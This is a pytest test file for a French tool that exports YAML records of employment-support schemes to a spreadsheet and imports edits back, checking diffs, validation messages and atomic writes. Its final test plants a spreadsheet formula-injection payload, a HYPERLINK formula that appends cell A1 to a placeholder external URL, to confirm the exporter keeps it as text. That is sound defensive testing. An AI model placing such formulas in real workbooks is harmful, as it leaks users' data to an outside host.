"""`offre classeur`: the workbook round trip on the test dataset and the shipped data."""

from __future__ import annotations

import datetime
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter

from tests.support.classeur_helpers import (
    add_row,
    changed_lines,
    column_of,
    copy_shipped,
    delete_row,
    drop_downs,
    edit,
    export,
    headers,
    import_,
    row_of,
    snapshot,
)
from tests.support.datasets import run_cli

SCHEMES = "dispositifs"
MOBILITE = "dispositifs/france-travail-essai/aide-mobilite-essai.yaml"
APPRENTISSAGE = "dispositifs/region-essai/apprentissage-essai.yaml"


# ---------------------------------------------------------------------------- round trip


def test_unedited_workbook_changes_no_file_test_dataset(dataset: Path, tmp_path: Path) -> None:
    before = snapshot(dataset)
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    code, output = import_(workbook, dataset)
    assert code == 0, output
    assert snapshot(dataset) == before
    assert "Dispositifs : 0 créés ; 0 modifiés ; 9 inchangés." in output
    assert "Territoires : 0 créés ; 0 modifiés ; 3 inchangés." in output
    assert "Lieux : 0 créés ; 0 modifiés ; 2 inchangés." in output
    assert "0 fichiers écrits." in output


def test_unedited_workbook_changes_no_file_shipped_data(tmp_path: Path) -> None:
    data = copy_shipped(tmp_path / "offer_data")
    before = snapshot(data)
    workbook = export(data, tmp_path / "classeur.xlsx")
    code, output = import_(workbook, data)
    assert code == 0, output
    assert snapshot(data) == before
    schemes = len(list((data / "dispositifs").rglob("*.yaml")))
    assert f"Dispositifs : 0 créés ; 0 modifiés ; {schemes} inchangés." in output
    places = len(list((data / "lieux").rglob("*.yaml")))
    assert places >= 1
    assert f"Lieux : 0 créés ; 0 modifiés ; {places} inchangé" in output


# ---------------------------------------------------------------------------- edits


@pytest.mark.parametrize(
    ("path", "ident", "changes", "expected"),
    [
        (
            MOBILITE,
            "aide-mobilite-essai",
            {"titre": "Aide à la mobilité vers l'emploi (essai)"},
            [
                "-titre: Aide à la mobilité (essai)",
                "+titre: Aide à la mobilité vers l'emploi (essai)",
            ],
        ),
        (  # one field of one item of a numbered group
            MOBILITE,
            "aide-mobilite-essai",
            {"sources.1.titre": "Source d'essai revue"},
            ["-    titre: Source d'essai", "+    titre: Source d'essai revue"],
        ),
        (  # a key of a mapping keyed by territory
            MOBILITE,
            "aide-mobilite-essai",
            {"contacts.territoires.1.telephone": "02 43 00 00 00"},
            ["-      telephone: 02 00 00 00 00", "+      telephone: 02 43 00 00 00"],
        ),
        (  # a list in one cell: the flow style of the file is kept
            APPRENTISSAGE,
            "apprentissage-essai",
            {"publics": "jeunes | demandeurs-emploi"},
            ["-publics: [jeunes]", "+publics: [jeunes, demandeurs-emploi]"],
        ),
        (  # a new key goes where the model puts it
            APPRENTISSAGE,
            "apprentissage-essai",
            {"sigle": "DA"},
            ["+sigle: DA"],
        ),
        (  # a real date cell
            APPRENTISSAGE,
            "apprentissage-essai",
            {"consulte_le": datetime.datetime(2026, 7, 14)},
            ["-consulte_le: 2026-06-01", "+consulte_le: 2026-07-14"],
        ),
        (  # the provider's confirmation, a date key the file does not have yet
            APPRENTISSAGE,
            "apprentissage-essai",
            {"verifie_le": datetime.datetime(2026, 7, 14)},
            ["+verifie_le: 2026-07-14"],
        ),
        (  # a vocabulary value that says no source states the cost
            APPRENTISSAGE,
            "apprentissage-essai",
            {"frais": "non-precise"},
            ["-frais: gratuit", "+frais: non-precise"],
        ),
        (  # a closed choice whose default the file leaves out
            APPRENTISSAGE,
            "apprentissage-essai",
            {"nature": "information"},
            ["+nature: information"],
        ),
        (  # who the scheme is for: a closed choice whose default the file leaves out
            APPRENTISSAGE,
            "apprentissage-essai",
            {"destinataire": "employeur"},
            ["+destinataire: employeur"],
        ),
        (  # who pays: a list of closed choices
            APPRENTISSAGE,
            "apprentissage-essai",
            {"frais_a_la_charge_de": "etat | employeur"},
            ["+frais_a_la_charge_de: [etat, employeur]"],
        ),
        (  # oui/non
            APPRENTISSAGE,
            "apprentissage-essai",
            {"statut_a_confirmer": "oui"},
            ["+statut_a_confirmer: true"],
        ),
        (  # a partial date in a text cell
            APPRENTISSAGE,
            "apprentissage-essai",
            {"statut_depuis": "2024-03"},
            ["+statut_depuis: 2024-03"],
        ),
        (  # the date a source states, a year
            APPRENTISSAGE,
            "apprentissage-essai",
            {"sources.1.date_publication": "2025"},
            ["-    date_publication: 2026-01", "+    date_publication: 2025"],
        ),
        (  # who delivers the scheme: a network and a place
            APPRENTISSAGE,
            "apprentissage-essai",
            {
                "delivre_par.reseaux": "mission-locale",
                "delivre_par.lieux": "agence-fictive-le-mans",
            },
            [
                "+delivre_par:",
                "+  reseaux: [mission-locale]",
                "+  lieux: [agence-fictive-le-mans]",
            ],
        ),
        (  # a partial date typed as a year
            MOBILITE,
            "aide-mobilite-essai",
            {"date_debut": "2019"},
            ["-date_debut: 2020-01", "+date_debut: 2019"],
        ),
        (  # an emptied cell removes the key
            MOBILITE,
            "aide-mobilite-essai",
            {"mots_cles": None},
            ["-mots_cles: [déplacement, transport]"],
        ),
        (  # a multi-line Markdown text keeps its literal block
            MOBILITE,
            "aide-mobilite-essai",
            {
                "description": "Une aide pour **financer les déplacements** liés à la "
                "recherche d'emploi.\n\n- frais de transport ;\n- frais de repas."
            },
            ["-  - frais de repas et d'hébergement.", "+  - frais de repas."],
        ),
    ],
    ids=[
        "titre",
        "source",
        "contact-territoire",
        "liste",
        "nouvelle-cle",
        "date",
        "confirmation",
        "frais",
        "nature",
        "destinataire",
        "financeurs",
        "oui-non",
        "date-partielle",
        "date-publication",
        "delivre-par",
        "annee",
        "vide",
        "markdown",
    ],
)
def test_one_cell_edited_changes_only_that_field(
    dataset: Path,
    tmp_path: Path,
    path: str,
    ident: str,
    changes: dict[str, object],
    expected: list[str],
) -> None:
    before = snapshot(dataset)
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    edit(workbook, "Dispositifs", ident, changes)
    code, output = import_(workbook, dataset)
    assert code == 0, output
    after = snapshot(dataset)
    assert changed_lines(before[path], after[path]) == expected
    assert {p for p in before if before[p] != after.get(p)} == {path}
    assert set(after) == set(before)
    field = next(iter(changes)).split(".")[0]
    assert f"1 modifié ({ident} : {field})" in output
    assert run_cli("validate", str(dataset))[0] == 0


def test_sigle_lands_after_titre(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    edit(workbook, "Dispositifs", "apprentissage-essai", {"sigle": "DA"})
    assert import_(workbook, dataset)[0] == 0
    lines = (dataset / APPRENTISSAGE).read_text(encoding="utf-8").splitlines()
    assert lines[1:3] == ["titre: Découvrir l'apprentissage (essai)", "sigle: DA"]


def test_comments_and_quoted_codes_are_kept(dataset: Path, tmp_path: Path) -> None:
    path = dataset / "territoires" / "sarthe.yaml"
    original = path.read_text(encoding="utf-8")
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    edit(workbook, "Territoires", "sarthe", {"priorites": "relance"})
    assert import_(workbook, dataset)[0] == 0
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# Jeu de données d'essai pour les tests : territoire fictif.\n")
    assert "- '200040475'\n" in text  # its quoting and list style, untouched
    assert changed_lines(original.encode(), text.encode()) == ["-- mutations-economiques"]


def test_new_code_is_quoted_so_yaml_keeps_it_text(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    # A spreadsheet user types the code as a number: the cell holds 72, not "72".
    edit(workbook, "Dispositifs", "apprentissage-essai", {"territoires": 72})
    code, output = import_(workbook, dataset)
    assert code == 0, output
    text = (dataset / APPRENTISSAGE).read_text(encoding="utf-8")
    assert 'territoires: ["72"]\n' in text
    assert run_cli("validate", str(dataset))[0] == 0


# ---------------------------------------------------------------------------- invalid cells


def test_invalid_cells_are_located_and_nothing_is_written(
    dataset: Path, tmp_path: Path, in_tmp: Path
) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    sheet = load_workbook(workbook)["Dispositifs"]
    row = row_of(sheet, "apprentissage-essai")

    def ref(header: str) -> str:
        return f"{get_column_letter(column_of(sheet, header))}{row}"

    edit(
        workbook,
        "Dispositifs",
        "apprentissage-essai",
        {
            "publics": "jeunes | jeuness",
            "consulte_le": "31/02/2026",
            "porteur": "porteur-inconnu",
            "titre": "Ab",
        },
    )
    before = snapshot(dataset)
    code, output = import_(workbook, dataset)
    assert code == 1
    assert snapshot(dataset) == before
    lines = output.splitlines()
    assert (
        f"classeur.xlsx:Dispositifs!{ref('titre')}: error: titre: "
        "texte trop court (au moins 3 caractères)." in lines
    )
    assert any(
        line.startswith(f"classeur.xlsx:Dispositifs!{ref('consulte_le')}: error: consulte_le: ")
        and "31/02/2026" in line
        for line in lines
    ), output
    assert "aucun fichier n'a été modifié" in output
    assert "Traceback" not in output


def test_cross_record_problems_are_located(dataset: Path, tmp_path: Path, in_tmp: Path) -> None:
    """Unknown vocabulary value and unknown provider: checks across files, same messages."""
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    sheet = load_workbook(workbook)["Dispositifs"]
    row = row_of(sheet, "apprentissage-essai")
    publics = f"{get_column_letter(column_of(sheet, 'publics'))}{row}"
    porteur = f"{get_column_letter(column_of(sheet, 'porteur'))}{row}"
    edit(
        workbook,
        "Dispositifs",
        "apprentissage-essai",
        {"publics": "jeunes | jeuness", "porteur": "porteur-inconnu"},
    )
    before = snapshot(dataset)
    code, output = import_(workbook, dataset)
    assert code == 1
    assert snapshot(dataset) == before
    assert (
        f"classeur.xlsx:Dispositifs!{publics}: error: publics[1]: valeur « jeuness » absente du "
        "vocabulaire « publics ». Vouliez-vous dire « jeunes » ?" in output
    )
    assert (
        f"classeur.xlsx:Dispositifs!{porteur}: error: porteur: porteur « porteur-inconnu » inconnu."
        in output
    )


def test_missing_required_field_names_the_column(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    ref = edit(workbook, "Dispositifs", "apprentissage-essai", {"resume": None})
    code, output = import_(workbook, dataset)
    assert code == 1
    assert (
        f"classeur.xlsx:Dispositifs!{ref}: error: resume: champ obligatoire manquant : "
        "remplissez la colonne « resume »." in output
    )


def test_unknown_column_is_reported_at_its_header(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    book = load_workbook(workbook)
    sheet = book["Porteurs"]
    column = len(headers(sheet)) + 1
    sheet.cell(1, column, "sitee")
    book.save(workbook)
    code, output = import_(workbook, dataset)
    assert code == 1
    letter = get_column_letter(column)
    assert f"classeur.xlsx:Porteurs!{letter}1: error: colonne « sitee » inconnue." in output


# ---------------------------------------------------------------------------- rows


NEW_SCHEME = {
    "id": "atelier-cv-essai",
    "titre": "Atelier CV (essai)",
    "porteur": "association-essai",
    "resume": "Un atelier collectif pour écrire ou mettre à jour son CV.",
    "description": "Deux heures en petit groupe.\n\nApporter un CV existant si possible.",
    "publics": "demandeurs-emploi | jeunes",
    "thematiques": "trouver-un-emploi--repondre-a-des-offres-demploi",
    "type": "atelier",
    "frais": "gratuit",
    "modalites_mobilisation.mobilisable_par": "usagers | professionnels",
    "territoires": "72",
    "statut": "actif",
    "sources.1.url": "https://example.org/atelier-cv",
    "sources.1.titre": "Page d'essai",
    "consulte_le": datetime.datetime(2026, 5, 2),
}


def test_new_row_becomes_a_new_valid_file(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    add_row(workbook, "Dispositifs", NEW_SCHEME)
    before = snapshot(dataset)
    code, output = import_(workbook, dataset)
    assert code == 0, output
    assert "1 créé (atelier-cv-essai)" in output
    created = dataset / "dispositifs" / "association-essai" / "atelier-cv-essai.yaml"
    after = snapshot(dataset)
    assert set(after) - set(before) == {created.relative_to(dataset).as_posix()}
    assert all(after[p] == before[p] for p in before)
    text = created.read_text(encoding="utf-8")
    data = yaml.safe_load(text)
    assert data["territoires"] == ["72"]
    assert data["consulte_le"] == datetime.date(2026, 5, 2)
    assert "verifie_le" not in data  # no provider confirmed it
    assert data["modalites_mobilisation"] == {"mobilisable_par": ["usagers", "professionnels"]}
    assert data["sources"] == [{"url": "https://example.org/atelier-cv", "titre": "Page d'essai"}]
    assert "description: |\n  Deux heures en petit groupe.\n\n  Apporter" in text
    assert list(data)[:3] == ["id", "titre", "porteur"]
    assert run_cli("validate", str(dataset))[0] == 0


def test_new_row_without_id_is_refused(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    row = add_row(workbook, "Dispositifs", {**NEW_SCHEME, "id": None})
    before = snapshot(dataset)
    code, output = import_(workbook, dataset)
    assert code == 1
    assert snapshot(dataset) == before
    assert f"classeur.xlsx:Dispositifs!A{row}: error: id: champ obligatoire manquant" in output


def test_duplicate_id_is_refused_at_both_rows(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    first = row_of(load_workbook(workbook)["Dispositifs"], "apprentissage-essai")
    row = add_row(workbook, "Dispositifs", {**NEW_SCHEME, "id": "apprentissage-essai"})
    before = snapshot(dataset)
    code, output = import_(workbook, dataset)
    assert code == 1
    assert snapshot(dataset) == before
    assert (
        f"classeur.xlsx:Dispositifs!A{row}: error: id: identifiant « apprentissage-essai » déjà "
        f"utilisé par Dispositifs!A{first} : chaque dispositif doit avoir un identifiant unique."
        in output
    )


def test_removed_row_is_reported_and_its_file_kept(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    delete_row(workbook, "Dispositifs", "garantie-essai")
    before = snapshot(dataset)
    code, output = import_(workbook, dataset)
    assert code == 0, output
    assert snapshot(dataset) == before
    assert (
        "absents du classeur, fichiers conservés (rien n'est supprimé) : garantie-essai." in output
    )


def test_dry_run_checks_everything_and_writes_nothing(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    edit(workbook, "Porteurs", "region-essai", {"sigle": "RE"})
    add_row(workbook, "Dispositifs", NEW_SCHEME)
    before = snapshot(dataset)
    code, output = import_(workbook, dataset, "--dry-run")
    assert code == 0, output
    assert snapshot(dataset) == before
    assert "Porteurs : 0 créés ; 1 modifié (region-essai : sigle) ; 2 inchangés." in output
    assert "Essai (--essai) : aucun fichier écrit." in output


# ---------------------------------------------------------------------------- the workbook


def test_workbook_has_lists_dates_help_and_frozen_header(dataset: Path, tmp_path: Path) -> None:
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    book = load_workbook(workbook)
    assert book.sheetnames[:5] == ["Lisez-moi", "Dispositifs", "Porteurs", "Territoires", "Lieux"]
    assert book["Listes"].sheet_state == "hidden"
    sheet = book["Dispositifs"]
    assert sheet.freeze_panes == "B2"
    names = headers(sheet)
    for header in (
        "modalites_mobilisation.modes",
        "contacts.regional.telephone",
        "sources.1.url",
        "sources.2.titre",
    ):
        assert header in names
    comment = sheet.cell(1, column_of(sheet, "titre")).comment
    assert comment is not None and comment.text.startswith(
        "Nom du dispositif (3 à 150 caractères)."
    )
    row = row_of(sheet, "apprentissage-essai")
    date_cell = sheet.cell(row, column_of(sheet, "consulte_le"))
    assert date_cell.is_date and date_cell.value == datetime.datetime(2026, 6, 1)
    assert sheet.cell(row, column_of(sheet, "thematiques")).value == (
        "choisir-un-metier--decouvrir-un-metier-ou-un-secteur-dactivite | recruter--alternance"
    )
    validated = drop_downs(book, "Dispositifs")
    assert "porteur" in validated and "region-essai" in validated["porteur"][0]
    assert "jeunes" in validated["publics"][0]
    assert validated["statut"] == (["actif", "suspendu", "termine", "remplace"], "stop")
    assert "contacts.territoires.1.territoire" in validated
    assert validated["territoires"][0][:2] == ["tous", "anjou-maine"]
    assert {"72", "247200132", "72181"} <= set(validated["territoires"][0])  # codes too


def test_new_fields_have_their_cells_and_drop_downs(dataset: Path, tmp_path: Path) -> None:
    book = load_workbook(export(dataset, tmp_path / "classeur.xlsx"))
    sheet = book["Dispositifs"]
    validated = drop_downs(book, "Dispositifs")
    assert validated["nature"] == (["dispositif", "instance", "plan", "information"], "stop")
    assert validated["frais"][0] == ["gratuit", "payant", "non-precise"]
    assert validated["statut_a_confirmer"] == (["oui", "non"], "stop")
    assert "mission-locale" in validated["delivre_par.reseaux"][0]
    places = ["agence-fictive-le-mans", "antenne-fictive-sans-zone"]
    assert validated["delivre_par.lieux"][0] == places
    row = row_of(sheet, "aide-mobilite-essai")

    def cell(header: str) -> Cell:
        return sheet.cell(row, column_of(sheet, header))

    assert cell("nature").value == "dispositif"  # the default, shown
    assert cell("statut_a_confirmer").value == "non"
    for header in ("consulte_le", "verifie_le", "modifie_le"):
        assert cell(header).is_date, header
    assert cell("cree_le").number_format == "YYYY-MM-DD"
    # Partial dates are text: a spreadsheet would turn "2020-01" into a full date.
    assert cell("date_debut").value == "2020-01" and cell("date_debut").number_format == "@"
    for header in ("statut_depuis", "sources.1.date_publication"):
        assert cell(header).number_format == "@", header
    comment = sheet.cell(1, column_of(sheet, "verifie_le")).comment
    assert comment is not None and "a confirmé la fiche" in comment.text
    for header, default in (("nature", "dispositif"), ("statut_a_confirmer", "non")):
        comment = sheet.cell(1, column_of(sheet, header)).comment
        assert comment is not None
        assert f"Facultatif : une cellule vide vaut « {default} »." in comment.text
    readme = "\n".join(str(c.value) for c in book["Lisez-moi"]["A"] if c.value)
    assert "« consulte_le » (obligatoire) : le jour où les sources citées ont été lues" in readme
    assert "« verifie_le » : le jour où le porteur" in readme
    assert "sinon non-precise" in readme
    assert "reglages.yaml" in readme and "ne sont pas dans ce classeur" in readme
    assert "Réglages" not in book.sheetnames


def test_export_refuses_to_overwrite_and_invalid_data(dataset: Path, tmp_path: Path) -> None:
    target = export(dataset, tmp_path / "classeur.xlsx")
    code, output = run_cli("classeur", "exporter", str(target), "--data", str(dataset))
    assert code == 1 and "existe déjà" in output and "--ecraser" in output
    (dataset / APPRENTISSAGE).write_text("id: apprentissage-essai\n", encoding="utf-8")
    code, output = run_cli(
        "classeur", "exporter", str(tmp_path / "autre.xlsx"), "--data", str(dataset)
    )
    assert code == 1 and "champ obligatoire manquant" in output
    assert not (tmp_path / "autre.xlsx").exists()


@pytest.mark.parametrize(
    "command", [["classeur"], ["classeur", "exporter"], ["classeur", "importer"]]
)
def test_help_is_in_french(command: list[str]) -> None:
    code, output = run_cli(*command, "--help")
    assert code == 0
    assert output.startswith("Utilisation : offre classeur")
    assert "Afficher cette aide." in output


# ---------------------------------------------------------------------------- failures


def test_a_failed_write_leaves_every_file_as_it_was(
    dataset: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files are staged, and moved into place only once all are staged."""
    workbook = export(dataset, tmp_path / "classeur.xlsx")
    edit(workbook, "Dispositifs", "apprentissage-essai", {"sigle": "DA"})
    edit(workbook, "Dispositifs", "aide-mobilite-essai", {"sigle": "AM"})
    add_row(workbook, "Dispositifs", NEW_SCHEME)
    before = snapshot(dataset)
    calls = []

    def failing_fsync(fd: int) -> None:
        calls.append(fd)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr("generator.importers.data_folder.os.fsync", failing_fsync)
    code, output = import_(workbook, dataset)
    assert code == 1
    assert (
        "écriture impossible (No space left on device) : aucun fichier n'a été modifié." in output
    )
    assert "Traceback" not in output
    assert len(calls) == 2
    assert snapshot(dataset) == before  # no file replaced, no staged file left behind
    assert not (dataset / "dispositifs" / "association-essai" / "atelier-cv-essai.yaml").exists()


def test_unreadable_workbook_is_a_clear_error(dataset: Path, tmp_path: Path) -> None:
    fake = tmp_path / "classeur.xlsx"
    fake.write_text("pas un classeur", encoding="utf-8")
    code, output = import_(fake, dataset)
    assert code == 1
    assert "classeur.xlsx : classeur illisible" in output
    code, output = import_(tmp_path / "classeur.csv", dataset)
    assert code == 1 and "classeur introuvable" in output


def test_ods_without_libreoffice_says_what_to_install(
    dataset: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("generator.importers.workbook.office.soffice", lambda: None)
    ods = tmp_path / "classeur.ods"
    ods.write_bytes(b"PK")
    code, output = import_(ods, dataset)
    assert code == 1
    assert "LibreOffice est nécessaire" in output and "enregistrez le classeur en .xlsx" in output


def test_a_label_starting_with_equals_stays_text_in_the_lists_sheet(
    dataset: Path, tmp_path: Path
) -> None:
    vocab = dataset / "vocabulaires.yaml"
    formula = '=HYPERLINK("https://exemple.invalid/?"&A1,"Employeurs")'
    text = vocab.read_text(encoding="utf-8")
    assert "    libelle: Employeurs\n" in text
    vocab.write_text(
        text.replace("    libelle: Employeurs\n", f"    libelle: '{formula}'\n"), "utf-8"
    )
    book = load_workbook(export(dataset, tmp_path / "classeur.xlsx"))
    cells = [c for row in book["Listes"].iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
